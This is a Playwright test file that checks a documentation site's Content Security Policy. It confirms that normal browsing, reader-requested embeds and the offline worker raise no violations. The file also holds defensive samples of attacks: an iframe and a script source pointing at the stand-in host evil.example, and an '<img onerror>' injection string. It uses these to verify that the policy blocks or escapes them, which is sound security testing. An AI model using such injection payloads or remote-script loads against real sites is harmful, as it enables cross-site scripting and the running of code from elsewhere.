import type { Page } from "playwright-core";
import { Site, type OpenPage } from "./site";

const site = Site.forTests();

const LONGEST_MS = 120_000;

/** Notes what the policy forbids, in every document of a page, from before its first script on. */
const WATCH = `window.violations = [];
document.addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI, sample, lineNumber, sourceFile }) =>
  violations.push([violatedDirective, blockedURI, sample, sourceFile, lineNumber].join(" ")));`;

/** Opens an address; `violations` reads what the policy has forbidden so far, in frames too. */
async function openWatched(address: string, options = {}): Promise<OpenPage & { violations(): Promise<string[]> }> {
  const opened = await site.open("/robots.txt", options);
  await opened.page.addInitScript(WATCH);
  await opened.page.goto(site.origin + address, { waitUntil: "networkidle" });
  await opened.page.mouse.move(0, 2);
  const own = () => opened.page.frames().filter((frame) => frame.url().startsWith(site.origin));
  const violations = async () =>
    (await Promise.all(own().map((frame) => frame.evaluate<string[]>("window.violations ?? []")))).flat();
  return { ...opened, violations };
}

const go = async (page: Page, address: string): Promise<void> => {
  await page.evaluate(`___navigate(${JSON.stringify(address)})`);
  await page.waitForFunction(`location.pathname === ${JSON.stringify(address)} && document.querySelector("main h1")`);
};

it(
  "the policy allows all that a visit does: search, menu, diagrams, enlarging, tabs, modes, back and forward",
  async () => {
    const { page, faults, violations } = await openWatched("/", { viewport: { width: 390, height: 800 } });
    await page.getByRole("button", { name: "Toggle navigation bar" }).click();
    await page.getByRole("dialog").first().waitFor();
    await page.keyboard.press("Escape");
    await page.keyboard.press("Control+k");
    await page.getByRole("searchbox").or(page.getByRole("combobox")).first().fill("rails");
    await page.getByRole("option").first().waitFor();
    await page.keyboard.press("Enter");
    await page.waitForFunction("location.pathname !== '/'");
    await go(page, "/kitchen-sink");
    const figure = page.locator("figure.diagram").first();
    await figure.scrollIntoViewIfNeeded();
    await figure.locator(".diagram-frame svg").waitFor();
    expect(await page.locator("math").count()).toBeGreaterThan(0);
    const zoom = page.locator(".zoom-button").first();
    await zoom.scrollIntoViewIfNeeded();
    await zoom.click();
    await page.locator("dialog.zoom-dialog[open]").waitFor();
    await page.keyboard.press("Escape");
    await page.setViewportSize({ width: 1280, height: 900 });
    await page.getByRole("button", { name: /mode/i }).first().click();
    await go(page, "/blog");
    await page.goBack();
    await figure.waitFor();
    await page.goForward();
    await page.getByRole("heading", { level: 1, name: "Blog" }).waitFor();
    await go(page, "/search");
    expect(await violations()).toEqual([]);
    expect(faults).toEqual([]);
  },
  LONGEST_MS,
);

it("the policy allows the embeds that a reader asks for, and no other frame", async () => {
  const { page, violations } = await openWatched("/kitchen-sink");
  const isElsewhere = ({ protocol }: URL) => protocol === "https:";
  await page.context().route(isElsewhere, (route) => route.fulfill({ contentType: "text/html", body: "<p>Played" }));
  const load = page.locator(".embed-frame[data-src^='https:'] .embed-load:visible");
  while ((await load.count()) > 0) await load.first().click();
  await page.locator(".embed-frame iframe").first().contentFrame().getByText("Played").waitFor();
  expect(await violations()).toEqual([]);
  await page.evaluate(
    `document.body.append(Object.assign(document.createElement("iframe"), { src: "https://evil.example" }))`,
  );
  await page.waitForFunction("violations.length > 0");
  expect((await violations())[0]).toContain("frame-src https://evil.example");
});

it("the policy forbids what an injected text would do", async () => {
  const { page } = await openWatched("/about/");
  const refused = (code: string) =>
    page.evaluate<string>(`(() => { try { ${code}; return "done"; } catch (error) { return error.name; } })()`);
  // HTML that is text may have <mark>, as DocSearch writes it, and no other element.
  const written = `Object.assign(document.createElement("p"), { innerHTML: "<mark>a</mark><img src=x onerror=window.hit=1>" })`;
  expect(await page.evaluate(`${written}.innerHTML`)).toBe("<mark>a</mark>&lt;img src=x onerror=window.hit=1&gt;");
  expect(await refused(`document.createElement("script").src = "https://evil.example/x.js"`)).toBe("TypeError");
  expect(await refused(`trustedTypes.createPolicy("mine", {})`)).toBe("TypeError");
  await page.evaluate(`document.body.append(Object.assign(document.createElement("p"), { id: "styled" }));
    document.getElementById("styled").setAttribute("style", "color: red")`);
  expect(await page.evaluate("document.getElementById('styled').style.color")).toBe("");
});

it(
  "the policy lets the offline worker start and show pages",
  async () => {
    const { page, faults, violations } = await openWatched("/", { serviceWorkers: "allow" });
    await page.waitForFunction("navigator.serviceWorker.controller !== null", undefined, { timeout: LONGEST_MS });
    await page.goto(`${site.origin}/kitchen-sink`, { waitUntil: "networkidle" });
    const figure = page.locator("figure.diagram").first();
    await figure.scrollIntoViewIfNeeded();
    await figure.locator(".diagram-frame svg").waitFor();
    expect(await violations()).toEqual([]);
    expect(faults).toEqual([]);
    await page.context().setOffline(true);
    await page.goto(`${site.origin}/offline`, { waitUntil: "load" });
    await page.getByRole("heading", { level: 1 }).waitFor();
    expect(await violations()).toEqual([]);
  },
  LONGEST_MS,
);
